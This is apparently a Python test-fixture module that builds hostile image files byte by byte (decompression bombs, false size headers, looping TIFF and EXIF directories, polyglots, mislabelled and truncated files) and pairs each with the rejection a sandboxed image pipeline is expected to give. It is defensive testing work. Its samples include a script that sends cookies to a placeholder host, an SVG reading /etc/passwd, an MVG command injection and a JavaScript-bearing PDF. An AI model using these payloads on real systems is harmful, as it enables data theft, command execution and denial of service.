"""Pictures made to harm the programs that open them, of every class there is, written byte by byte."""

from __future__ import annotations

import io
import struct
import zlib

import pillow_heif
from corpus.index import chunk, encoded, gif_blocks, picture, riff, with_chunks, with_segments
from PIL import Image, TiffImagePlugin

from hostile.files import BOMB, BROKEN, LIE, LOOP, MISLABELLED, NUMBER, POLYGLOT, Hostile
from trusted.jail import stages
from trusted.jail.stages import Refused

PNG_SIGNATURE = b"\x89PNG\r\n\x1a\n"
MEGABYTES = 200
POSTSCRIPT = (
    b"%!PS-Adobe-3.0 EPSF-3.0\n%%BoundingBox: 0 0 10 10\n(/tmp/kallskydd-escaped) (w) file closefile showpage\n"
)
HTML = b"<!DOCTYPE html><html><script>fetch('http://198.51.100.1/'+document.cookie)</script></html>"
SVG = b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg"><image href="file:///etc/passwd"/></svg>'
MVG = b"push graphic-context\nviewbox 0 0 64 64\nimage over 0,0 0,0 'https://198.51.100.1/x.jpg\"|id\"'\npop graphic-context\n"
ZIP = b"PK\x03\x04" + bytes(26) + b"x" + b"PK\x05\x06" + bytes(18)
OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(504)
PDF_BEHIND = b"%PDF-1.4\n1 0 obj<</Type/Catalog/OpenAction<</S/JavaScript/JS(app.alert(1))>>>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF"


def png(width: int, height: int, pixels: bytes, bits: int = 8, colour: int = 0) -> bytes:
    header = chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, bits, colour, 0, 0, 0))
    return PNG_SIGNATURE + header + chunk(b"IDAT", pixels) + chunk(b"IEND", b"")


def nothing(size: int) -> bytes:
    """Very many zeros as a zlib stream, made without deflating them all: a piece that ends in a flush can be repeated."""

    def piece(length: int) -> bytes:
        deflating = zlib.compressobj(9, zlib.DEFLATED, -zlib.MAX_WBITS)
        return deflating.compress(bytes(length)) + deflating.flush(zlib.Z_FULL_FLUSH)

    checksum = ((size % 65521) << 16 | 1).to_bytes(4, "big")
    return b"\x78\xda" + piece(2**20) * (size >> 20) + piece(size & (2**20 - 1)) + b"\x03\0" + checksum


def jpeg_sized(width: int, height: int) -> bytes:
    """A small JPEG whose header says another size."""
    made = bytearray(encoded(picture(), "JPEG"))
    at = made.index(b"\xff\xc0") + 5
    made[at : at + 4] = struct.pack(">HH", height, width)
    return bytes(made)


def gif(screen: tuple[int, int], frames: int, size: tuple[int, int] = (1, 1)) -> bytes:
    frame = b"\x21\xf9\x04\0\0\0\0\0\x2c" + struct.pack("<HHHHB", 0, 0, *size, 0) + b"\x02\x02\x44\x01\0"
    return b"GIF89a" + struct.pack("<HH", *screen) + b"\x80\0\0" + b"\xff\xff\xff\0\0\0" + frame * frames + b"\x3b"


def webp_canvas(width: int, height: int, *, moving: bool = False) -> bytes:
    """One small picture on a canvas that claims to be large."""
    small = encoded(picture((16, 16)), "WEBP", lossless=True)[12:]
    extended = (
        bytes([2 if moving else 0, 0, 0, 0]) + (width - 1).to_bytes(3, "little") + (height - 1).to_bytes(3, "little")
    )
    body = b"WEBP" + riff(b"VP8X", extended)
    if moving:
        frame = bytes(6) + b"\x0f\0\0\x0f\0\0" + bytes(4) + small
        body += riff(b"ANIM", bytes(6)) + riff(b"ANMF", frame) * 3000
    else:
        body += small
    return b"RIFF" + struct.pack("<I", len(body)) + body


def bmp_sized(width: int, height: int) -> bytes:
    made = bytearray(encoded(picture((16, 16)), "BMP"))
    made[18:26] = struct.pack("<ii", width, height)
    return bytes(made)


def phone_sized(kind: str, width: int, height: int) -> bytes:
    """A HEIC or AVIF whose `ispe` says another size than its pixels have."""
    output = io.BytesIO()
    if kind == "heic":
        pillow_heif.from_pillow(picture()).save(output)
    else:
        picture().save(output, "AVIF")
    made = bytearray(output.getvalue())
    at = made.index(b"ispe") + 8
    made[at : at + 8] = struct.pack(">II", width, height)
    return bytes(made)


def tiff(tags: list[tuple[int, int, int, int]], data: bytes = b"", following: int = 0) -> bytes:
    """One directory of entries (tag, type, count, value); the data stands behind it, at byte 8 + 2 + 12n + 4."""
    entries = b"".join(struct.pack("<HHII", *entry) for entry in sorted(tags))
    return b"II*\0\x08\0\0\0" + struct.pack("<H", len(tags)) + entries + struct.pack("<I", following) + data


def plain_tiff(width: int, height: int, data: bytes, compression: int, **more: int) -> bytes:
    tags = [
        (256, 4, 1, width), (257, 4, 1, height), (258, 3, 1, 8), (259, 3, 1, compression), (262, 3, 1, 1),
        (277, 3, 1, 1), (278, 4, 1, height), (279, 4, 1, len(data)),
    ]  # fmt: skip
    tags += [(int(tag[1:]), 4, 1, value) for tag, value in more.items()]
    start = 8 + 2 + 12 * (len(tags) + 1) + 4
    return tiff([*tags, (273, 4, 1, start)], data)


def looping_tiff() -> bytes:
    """A directory that names itself as the next one."""
    made = bytearray(encoded(picture(), "TIFF"))
    directory = struct.unpack("<I", made[4:8])[0]
    count = struct.unpack("<H", made[directory : directory + 2])[0]
    made[directory + 2 + 12 * count : directory + 6 + 12 * count] = struct.pack("<I", directory)
    return bytes(made)


def two_tiff_directories_in_a_circle() -> bytes:
    made = bytearray(encoded(Image.new("L", (8, 8)), "TIFF", save_all=True, append_images=[Image.new("L", (8, 8))]))
    first = struct.unpack("<I", made[4:8])[0]
    count = struct.unpack("<H", made[first : first + 2])[0]
    second = struct.unpack("<I", made[first + 2 + 12 * count : first + 6 + 12 * count])[0]
    count = struct.unpack("<H", made[second : second + 2])[0]
    made[second + 2 + 12 * count : second + 6 + 12 * count] = struct.pack("<I", first)
    return bytes(made)


def looping_exif() -> bytes:
    """EXIF whose camera directory, position directory and next directory are all the first one."""
    entries = [(0x8769, 4, 1, 8), (0x8825, 4, 1, 8), (0xA005, 4, 1, 8), (0x014A, 4, 1, 8)]
    return with_segments(encoded(picture(), "JPEG"), [(0xE1, b"Exif\0\0" + tiff(entries, following=8))])


def lying_exif() -> bytes:
    """Tags that say they hold four gigabytes."""
    entries = [
        (0x010F, 2, 2**32 - 1, 2**31),
        (0x927C, 7, 2**32 - 1, 8),
        (0x0201, 4, 1, 2**32 - 1),
        (0x0202, 4, 1, 2**32 - 1),
    ]
    return with_segments(encoded(picture(), "JPEG"), [(0xE1, b"Exif\0\0" + tiff(entries))])


def many_pages_tiff() -> bytes:
    frames = [Image.new("1", (8, 8)) for _ in range(201)]
    return encoded(frames[0], "TIFF", save_all=True, append_images=frames[1:])


def many_chunks_png() -> bytes:
    return with_chunks(encoded(picture(), "PNG"), [chunk(b"tEXt", b"k%d\0v" % number) for number in range(60_000)])


def many_segments_jpeg() -> bytes:
    return with_segments(encoded(picture(), "JPEG"), [(0xFE, b"")] * 200_000)


def many_scans_jpeg() -> bytes:
    """A progressive JPEG whose last scan comes again and again: each is a pass over all of its pixels."""
    made = encoded(Image.new("L", (2000, 2000), 90), "JPEG", progressive=True)
    last = made.rindex(b"\xff\xda")
    return made[:-2] + made[last:-2] * 1000 + made[-2:]


def many_frames_apng() -> bytes:
    made = encoded(picture((8, 8)), "PNG")
    control = chunk(b"acTL", struct.pack(">II", 100_000, 0))
    frame = chunk(b"fcTL", struct.pack(">IIIIIHHBB", 1, 8, 8, 0, 0, 1, 10, 0, 0))
    return with_chunks(made, [control, frame * 20_000])


def tall_profile() -> bytes:
    return with_chunks(encoded(picture(), "PNG"), [chunk(b"iCCP", b"x\0\0" + nothing(MEGABYTES << 20))])


def text_bombs() -> bytes:
    bomb = nothing(MEGABYTES << 20)
    return with_chunks(
        encoded(picture(), "PNG"),
        [
            chunk(b"zTXt", b"x\0\0" + bomb),
            chunk(b"iTXt", b"x\0\x01\0\0\0" + bomb),
            chunk(b"zTXt", b"Raw profile type exif\0\0" + bomb),
        ],
    )


def raw_camera_file() -> bytes:
    tags = TiffImagePlugin.ImageFileDirectory_v2()
    tags[0xC612] = b"\x01\x04\x00\x00"
    tags.tagtype[0xC612] = 1
    return encoded(picture(), "TIFF", tiffinfo=tags)


def pictures() -> dict[str, Hostile]:
    """Every one of them."""
    jpeg, photo = encoded(picture(), "JPEG"), encoded(picture((640, 480)), "JPEG")
    return {
        "400 megapixels from a few bytes, PNG": Hostile(BOMB, png(20000, 20000, nothing(2**20)), stages.TooManyPixels),
        "just over the limit, PNG": Hostile(BOMB, png(10001, 10000, nothing(2**20)), stages.TooManyPixels),
        "as many pixels as are allowed, all there, PNG": Hostile(BOMB, png(10000, 10000, nothing(10001 * 10000))),
        "36 megapixels of 16 bits and four channels, PNG": Hostile(BOMB, png(6000, 6000, nothing(48001 * 6000), 16, 6)),
        "4 gigapixels, JPEG": Hostile(BOMB, jpeg_sized(65500, 65500), stages.TooManyPixels),
        "4 gigapixels, GIF": Hostile(BOMB, gif((65535, 65535), 1), stages.TooManyPixels),
        "268 megapixels, WebP": Hostile(BOMB, webp_canvas(16384, 16384), Refused),
        "4 gigapixels, BMP": Hostile(BOMB, bmp_sized(65500, 65500), stages.TooManyPixels),
        "4 gigapixels, TIFF": Hostile(BOMB, plain_tiff(65500, 65500, nothing(2**20), 8), stages.TooManyPixels),
        "4 gigapixels, HEIC": Hostile(BOMB, phone_sized("heic", 65500, 65500), Refused),
        "4 gigapixels, AVIF": Hostile(BOMB, phone_sized("avif", 65500, 65500), Refused),
        "text that inflates to 600 MiB": Hostile(BOMB, text_bombs()),
        "a colour profile that inflates to 200 MiB": Hostile(BOMB, tall_profile()),
        "a strip that inflates to 200 MiB, TIFF": Hostile(BOMB, plain_tiff(100, 100, nothing(MEGABYTES << 20), 8)),
        "pixels that go on for 200 MiB, PNG": Hostile(BOMB, png(100, 100, nothing(MEGABYTES << 20))),
        "60,000 frames on a large screen, GIF": Hostile(BOMB, gif((9000, 9000), 60_000)),
        "3,000 frames on a large canvas, WebP": Hostile(BOMB, webp_canvas(9000, 9000, moving=True)),
        "no pixels behind the header, PNG": Hostile(LIE, png(5000, 5000, nothing(2**20)), stages.Damaged),
        "no pixels behind the header, JPEG": Hostile(LIE, jpeg_sized(9000, 9000)),
        "no pixels behind the header, BMP": Hostile(LIE, bmp_sized(9000, 9000), stages.Damaged),
        "no pixels behind the header, TIFF": Hostile(LIE, plain_tiff(9000, 9000, b"x", 1), stages.Damaged),
        "a BMP upside down by two gigabytes": Hostile(LIE, bmp_sized(16, -(2**31)), Refused),
        "a HEIC that is larger than its pixels": Hostile(LIE, phone_sized("heic", 9000, 9000)),
        "an AVIF that is larger than its pixels": Hostile(LIE, phone_sized("avif", 9000, 9000)),
        "a canvas larger than its picture, WebP": Hostile(LIE, webp_canvas(9000, 9000)),
        "EXIF tags of four gigabytes": Hostile(LIE, lying_exif()),
        "a TIFF tag of four gigabytes": Hostile(LIE, plain_tiff(8, 8, bytes(64), 1, t700=2**31)),
        "a directory that follows itself, TIFF": Hostile(LOOP, looping_tiff()),
        "two directories in a circle, TIFF": Hostile(LOOP, two_tiff_directories_in_a_circle()),
        "a directory within itself, EXIF": Hostile(LOOP, looping_exif()),
        "a directory within itself, TIFF": Hostile(LOOP, plain_tiff(8, 8, bytes(64), 1, t330=8, t34665=8)),
        "201 pages, TIFF": Hostile(NUMBER, many_pages_tiff(), stages.TooManyFrames),
        "60,000 chunks, PNG": Hostile(NUMBER, many_chunks_png()),
        "200,000 segments, JPEG": Hostile(NUMBER, many_segments_jpeg()),
        "1,000 scans over four megapixels, JPEG": Hostile(NUMBER, many_scans_jpeg()),
        "20,000 frame controls, PNG": Hostile(NUMBER, many_frames_apng()),
        "200,000 comments, GIF": Hostile(NUMBER, gif((8, 8), 1)[:-1] + (b"\x21\xfe" + gif_blocks(b"x")) * 200_000 + b"\x3b"),
        "PostScript behind a JPEG's first letters": Hostile(MISLABELLED, b"\xff\xd8\xff" + POSTSCRIPT, Refused),
        "PostScript": Hostile(MISLABELLED, POSTSCRIPT, stages.UnknownKind),
        "a web page": Hostile(MISLABELLED, HTML, stages.UnknownKind),
        "a drawing that reads a file": Hostile(MISLABELLED, SVG, stages.DrawnPicture),
        "a drawing that runs a program": Hostile(MISLABELLED, MVG, stages.KindsDisagree),
        "an old office document": Hostile(MISLABELLED, OLE, stages.OfficeDocument),
        "a JPEG in a PNG's clothes": Hostile(MISLABELLED, PNG_SIGNATURE + jpeg, Refused),
        "a PNG in a JPEG's clothes": Hostile(MISLABELLED, b"\xff\xd8\xff" + encoded(picture(), "PNG"), Refused),
        "a camera's raw file": Hostile(MISLABELLED, raw_camera_file(), stages.CameraRaw),
        "a script in a comment": Hostile(POLYGLOT, with_segments(jpeg, [(0xFE, HTML)]), never=(b"script",)),
        "a web page in a text block": Hostile(POLYGLOT, with_chunks(encoded(picture(), "PNG"), [chunk(b"tEXt", b"a\0" + HTML)]), never=(b"script",)),
        "an archive behind a PNG": Hostile(POLYGLOT, encoded(picture(), "PNG") + ZIP, never=(b"PK\x05\x06",)),
        "an archive behind a JPEG": Hostile(POLYGLOT, jpeg + ZIP, never=(b"PK\x05\x06",)),
        "a web page behind a GIF": Hostile(POLYGLOT, encoded(picture().convert("P"), "GIF") + HTML, never=(b"script",)),
        "a PDF behind a JPEG": Hostile(POLYGLOT, jpeg + PDF_BEHIND, never=(b"%PDF", b"JavaScript")),
        "a PDF in a JPEG's comment": Hostile(POLYGLOT, with_segments(jpeg, [(0xFE, PDF_BEHIND)]), never=(b"%PDF", b"JavaScript")),
        "a BMP that is a script": Hostile(POLYGLOT, b"BM=1;/*" + encoded(picture((16, 16)), "BMP")[7:] + b"*/=alert(1)", never=(b"alert",)),
        "half a JPEG": Hostile(BROKEN, photo[: len(photo) // 2], stages.Damaged),
        "half a PNG": Hostile(BROKEN, encoded(picture((640, 480)), "PNG")[:2000], stages.Damaged),
        "half a WebP": Hostile(BROKEN, encoded(picture((640, 480)), "WEBP")[:500], Refused),
        "half a TIFF": Hostile(BROKEN, encoded(picture((640, 480)), "TIFF")[:20000], Refused),
        "half a GIF": Hostile(BROKEN, encoded(picture((640, 480)).convert("P"), "GIF")[:5000], Refused),
        "half a BMP": Hostile(BROKEN, encoded(picture((640, 480)), "BMP")[:5000], stages.Damaged),
        "half a HEIC": Hostile(BROKEN, phone_sized("heic", 96, 64)[:-300], Refused),
        "half an AVIF": Hostile(BROKEN, phone_sized("avif", 96, 64)[:-300], Refused),
        "a WebP of nothing": Hostile(BROKEN, b"RIFF" + struct.pack("<I", 4) + b"WEBP", Refused),
        "a WebP with an animation of no frames": Hostile(BROKEN, b"RIFF" + struct.pack("<I", 22) + b"WEBP" + riff(b"VP8X", bytes([2]) + bytes(9)), Refused),
        "a JPEG of a start and an end": Hostile(BROKEN, b"\xff\xd8\xff\xd9", Refused),
    }  # fmt: skip
